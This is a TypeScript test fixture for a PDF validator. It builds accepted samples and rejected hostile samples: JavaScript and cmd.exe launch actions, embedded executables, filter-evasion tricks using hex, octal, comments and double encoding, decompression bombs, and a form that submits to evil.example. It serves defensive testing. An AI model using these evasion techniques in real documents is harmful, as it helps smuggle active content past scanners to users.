import { constants, deflateSync } from 'node:zlib'
import type { DocumentProblem } from 'contract/content/library/document-facts'
import { makePdf } from 'testing/make-pdf.ts'

const none = '00'.repeat(32)
const pack = (...objects: string[]) => {
  const places: string[] = []
  let length = 0
  for (const [index, object] of objects.entries()) {
    places.push(`${200 + index} ${length}`)
    length += object.length + 1
  }
  const head = `${places.join(' ')} `
  const stream = deflateSync(`${head}${objects.join(' ')}`).toString('latin1')
  return `<</Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${stream.length}>>\nstream\n${stream}\nendstream`
}

const compressed = (text: string) => {
  const stream = deflateSync(text).toString('latin1')
  return `<</Filter /FlateDecode /Length ${stream.length}>>\nstream\n${stream}\nendstream`
}

/** A compressed stream of this many million spaces, a thousand times smaller. */
function inflating(millions: number): Buffer {
  const [head, million] = [2, 1_000_000]
  const part = deflateSync(Buffer.alloc(million, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const parts = Array.from({ length: millions }, () => part.subarray(head))
  return Buffer.concat([part.subarray(0, head), ...parts])
}

const remark = `%${'c'.repeat(300)}\n`
const script = '<</S /JavaScript /JS (app.alert(1))>>'
const encoded = (filters: string, stream: string) =>
  `<</Type /ObjStm /N 1 /First 6 /Filter ${filters} /Length ${stream.length}>>\nstream\n${stream}\nendstream`
const packedTwice = (filters: string, content: string) =>
  makePdf({ objects: [encoded(filters, `${deflateSync(content).toString('hex')}>`)] })

/** Accepted, and shown in a sandbox. */
export const sealedPdfs: Record<string, Buffer> = {
  'objects packed by another filter': makePdf({ objects: [encoded('/LZWDecode', 'abc')] }),
  'objects whose filter is named elsewhere': makePdf({
    objects: [encoded('101 0 R', 'abc'), '/FlateDecode'],
  }),
  'objects of no type that do not inflate': makePdf({
    objects: [encoded('/FlateDecode', 'abc').replace('/Type /ObjStm', '')],
  }),
  'objects whose dictionary hides its filter before the beginning of another': makePdf({
    objects: [
      pack(script)
        .replace(' /Filter /FlateDecode', '')
        .replace('/Type', '/Filter /FlateDecode /X objx /Type'),
    ],
  }),
  'a form that sends data': makePdf({
    objects: ['<</S /Submit#46orm /F (https://evil.example)>>'],
  }),
}

/** Rejected, with the reason. */
export const hostilePdfs: Record<string, () => { bytes: Buffer; fault: DocumentProblem }> = {
  'a script that runs when it is opened': () => ({
    bytes: makePdf({ catalog: '/OpenAction <</S /JavaScript /JS (app.alert(1))>>' }),
    fault: 'script',
  }),
  'a script in the tree of names': () => ({
    bytes: makePdf({
      catalog: '/Names <</JavaScript <</Names [(x) 100 0 R]>>>>',
      objects: ['<</S /JavaScript /JS 101 0 R>>', '<</Length 0>>\nstream\n\nendstream'],
    }),
    fault: 'script',
  }),
  'a script among compressed objects, its name spelled otherwise': () => ({
    bytes: makePdf({ objects: [pack('<</S /J#61vaScript /J#53 (app.alert(1))>>')] }),
    fault: 'script',
  }),
  'a program that is started': () => ({
    bytes: makePdf({ catalog: '/OpenAction <</S /Launch /F (cmd.exe)>>' }),
    fault: 'program',
  }),
  'a program that is started, among compressed objects': () => ({
    bytes: makePdf({ objects: [pack('<</Type /Action /S/Launch /Win <</F (cmd.exe)>>>>')] }),
    fault: 'program',
  }),
  'another file inside': () => ({
    bytes: makePdf({
      catalog: '/Names <</EmbeddedFiles <</Names [(a.exe) 100 0 R]>>>>',
      objects: ['<</Type /Filespec /F (a.exe) /EF <</F 101 0 R>>>>'],
    }),
    fault: 'files',
  }),
  'another file inside, which a note of the page holds': () => ({
    bytes: makePdf({
      objects: [
        '<</Type /Annot /Subtype /FileAttachment /FS 101 0 R /Rect [0 0 9 9]>>',
        '<</Type /Filespec /F (a.exe) /EF\n102\n0 R>>',
      ],
    }),
    fault: 'files',
  }),
  'a program that is started, behind a remark': () => ({
    bytes: makePdf({ catalog: '/OpenAction <</S %x\n/Launch /F (cmd.exe)>>' }),
    fault: 'program',
  }),
  'a program that is started by an action that is named elsewhere': () => ({
    bytes: makePdf({ catalog: '/OpenAction <</S 100 0 R /F (cmd.exe)>>', objects: ['/Launch'] }),
    fault: 'program',
  }),
  'a script in a form of Acrobat': () => ({
    bytes: makePdf({
      catalog: '/AcroForm <</Fields [] /XFA 100 0 R>>',
      objects: [
        compressed('<xdp:xdp><template><xfa:script>app.alert(1)</xfa:script></template></xdp:xdp>'),
      ],
    }),
    fault: 'script',
  }),
  'a link that is a script': () => ({
    bytes: makePdf({ catalog: '/OpenAction <</S /URI /URI (JavaScript:alert(1))>>' }),
    fault: 'script',
  }),
  'a script behind a long remark': () => ({
    bytes: makePdf({
      catalog: `/OpenAction <</S${remark}/Java#53cript /JS${remark}(app.alert(1))>>`,
    }),
    fault: 'script',
  }),
  'a program that is started, behind a long remark': () => ({
    bytes: makePdf({ catalog: `/AA <</O <</S${remark}/Launch /F (cmd.exe)>>>>` }),
    fault: 'program',
  }),
  'another file inside, behind a long remark': () => ({
    bytes: makePdf({ objects: [`<</Type /Filespec /EF${remark}<</F 101 0 R>>>>`] }),
    fault: 'files',
  }),
  'a script in objects that are packed twice': () => ({
    bytes: packedTwice('[/ASCIIHexDecode /Flate#44ecode]', `200 0 ${script}`),
    fault: 'script',
  }),
  'a script in objects that say no type': () => ({
    bytes: makePdf({ objects: [pack(script).replace('/Type /ObjStm', '')] }),
    fault: 'script',
  }),
  'a script in an object inside of a stream': () => ({
    bytes: makePdf({
      objects: [`<</Length 90>>\nstream\nendobj (\n200 0 obj ${script} endobj\nendstream`],
    }),
    fault: 'script',
  }),
  'a link that is a script in hexadecimal': () => ({
    bytes: makePdf({
      catalog: '/OpenAction <</S /URI /URI <6a617661 73637269 70743a616c657274283129>>>',
    }),
    fault: 'script',
  }),
  'a link that is a script with an octal letter': () => ({
    bytes: makePdf({
      catalog: '/OpenAction <</S /URI /URI (\\152ava\\\nscript:alert\\(1\\))>>',
    }),
    fault: 'script',
  }),
  'a link that is a script, which stands elsewhere': () => ({
    bytes: makePdf({
      catalog: '/OpenAction <</S /URI /URI 100 0 R>>',
      objects: ['(javascript:alert\\(1\\))'],
    }),
    fault: 'script',
  }),
  'a password': () => ({
    bytes: makePdf({
      trailer: `/Encrypt <</Filter /Standard /V 1 /R 2 /P -4 /O <${none}> /U <${none}>>> /ID [<00> <00>]`,
    }),
    fault: 'locked',
  }),
  'a stream that inflates': () => ({ bytes: makePdf({ stream: inflating(900) }), fault: 'costly' }),
  'compressed objects that inflate': () => {
    const stream = inflating(100).toString('latin1')
    const object = `<</Type /ObjStm /N 1 /First 9 /Filter /FlateDecode /Length ${stream.length}>>\nstream\n${stream}\nendstream`
    return { bytes: makePdf({ objects: [object] }), fault: 'costly' }
  },
  'pages that are their own parents': () => ({
    bytes: makePdf({
      catalog: '/Pages 100 0 R',
      objects: ['<</Type /Pages /Kids [100 0 R 100 0 R] /Count 9 /Parent 100 0 R>>'],
    }),
    fault: 'damaged',
  }),
  'half of a file': () => ({ bytes: makePdf().subarray(0, 500), fault: 'damaged' }),
  'nothing but how it begins': () => ({ bytes: Buffer.from('%PDF-1.7\n'), fault: 'damaged' }),
  'an archive behind its end': () => ({
    bytes: Buffer.concat([makePdf(), Buffer.from('PK\x03\x04\x14\0\0\0\b\0evil')]),
    fault: 'more behind it',
  }),
}
